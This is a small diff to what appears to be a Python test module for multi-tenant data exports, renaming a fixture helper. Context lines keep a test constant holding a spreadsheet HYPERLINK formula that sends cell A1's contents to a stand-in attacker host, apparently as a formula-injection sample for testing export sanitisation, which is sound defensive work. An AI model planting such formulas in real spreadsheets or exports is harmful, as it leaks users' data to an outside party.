@@ -22,7 +22,7 @@ from tests.tenants import (
     seed_orders,
     seed_service_account,
     snapshot_rows,
-    tokens_outlive_the_module,
+    world_outlives_the_module,
 )
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
@@ -131,7 +131,7 @@ def export_world_template(app) -> tuple[ExportWorld, list]:
     a = seed_tenant(app, factory, partner, other, live=False, reviewer=reviewer)
     b = seed_tenant(app, factory, partner, None, live=True, reviewer=reviewer)
     world = ExportWorld(app, partner, factory.token(partner), other, factory.token(other), a, b)
-    tokens_outlive_the_module(app)
+    world_outlives_the_module(app)
     return world, snapshot_rows(app)
 
 
